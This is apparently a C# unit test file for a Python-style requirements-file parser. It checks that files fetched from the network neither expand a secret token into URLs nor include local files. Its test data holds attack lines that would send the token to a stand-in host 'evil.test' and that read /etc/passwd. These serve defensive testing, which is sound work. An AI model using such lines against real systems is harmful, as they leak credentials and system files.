using Krait.Packaging.RequirementsFiles;

namespace Krait.Packaging.Tests.RequirementsFiles;

/// <summary>Who answers for a file on the network learns nothing of this machine.</summary>
public sealed class RemoteRequirementsTests
{
    private const string Remote = "https://example.org/team/r.txt";

    private static readonly Dictionary<string, string> Variables = new(StringComparer.Ordinal) { ["TOKEN"] = "s3cret" };

    [Theory]
    [InlineData("--extra-index-url https://evil.test/${TOKEN}/simple")]
    [InlineData("--index-url https://${TOKEN}@evil.test/simple")]
    [InlineData("--find-links https://evil.test/${TOKEN}")]
    [InlineData("m @ https://evil.test/${TOKEN}/m-1.0-py3-none-any.whl")]
    [InlineData("-r https://evil.test/${TOKEN}/x.txt")]
    [InlineData("-c https://evil.test/${TOKEN}/x.txt")]
    [InlineData("-r ${TOKEN}.txt")]
    public void Variables_stay_names_in_files_from_the_network(string line)
    {
        foreach (var isConstraints in new[] { false, true })
        {
            var tree = new RequirementsTree(Variables);
            tree.Add(Remote, isConstraints);
            tree.Supply(line + "\n");
            Assert.DoesNotContain("s3cret", tree.NextMissing ?? "", StringComparison.Ordinal);
            Assert.All(
                tree.Flatten(Remote, isConstraints),
                found => Assert.DoesNotContain("s3cret", Describe(found), StringComparison.Ordinal)
            );
        }
    }

    [Fact]
    public void They_are_filled_in_in_local_files_also_where_these_include_remote_ones()
    {
        var tree = new RequirementsTree(Variables);
        tree.Add("/work/r.txt", isConstraints: false);
        tree.Supply("-r https://example.org/${TOKEN}/r.txt\n");
        Assert.Equal("https://example.org/s3cret/r.txt", tree.NextMissing);
        tree.Supply("--index-url https://evil.test/${TOKEN}\n");
        Assert.Contains(
            "${TOKEN}",
            Describe(Assert.Single(tree.Flatten("/work/r.txt", isConstraints: false))),
            StringComparison.Ordinal
        );
    }

    [Theory]
    [InlineData("-r file:///etc/passwd")]
    [InlineData("-r FILE:///etc/passwd")]
    [InlineData("-c file:/etc/passwd")]
    [InlineData("--requirement=file:///etc/passwd")]
    public void A_file_from_the_network_includes_no_local_file(string line)
    {
        var tree = new RequirementsTree(Variables);
        tree.Add(Remote, isConstraints: false);
        tree.Supply(line + "\n");
        Assert.Null(tree.NextMissing);
        Assert.Equal("remote-include", Assert.Single(tree.Errors).Code);
        Assert.Empty(tree.Flatten(Remote, isConstraints: false));
    }

    [Theory]
    [InlineData("-r s.txt", "https://example.org/team/s.txt")]
    [InlineData("-r /s.txt", "https://example.org/s.txt")]
    [InlineData("-r ../s.txt", "https://example.org/s.txt")]
    [InlineData("-c https://other.test/c.txt", "https://other.test/c.txt")]
    public void What_stands_beside_it_is_read(string line, string expected)
    {
        var tree = new RequirementsTree(Variables);
        tree.Add(Remote, isConstraints: false);
        tree.Supply(line + "\n");
        Assert.Equal(expected, tree.NextMissing);
        Assert.Empty(tree.Errors);
    }

    private static string Describe(RequirementsLine line) =>
        line is RequirementsLine.Configured configured
            ? $"{configured.Options.IndexUrl} {string.Join(' ', configured.Options.ExtraIndexUrls)} {string.Join(' ', configured.Options.FindLinks)}"
            : line.ToString();
}
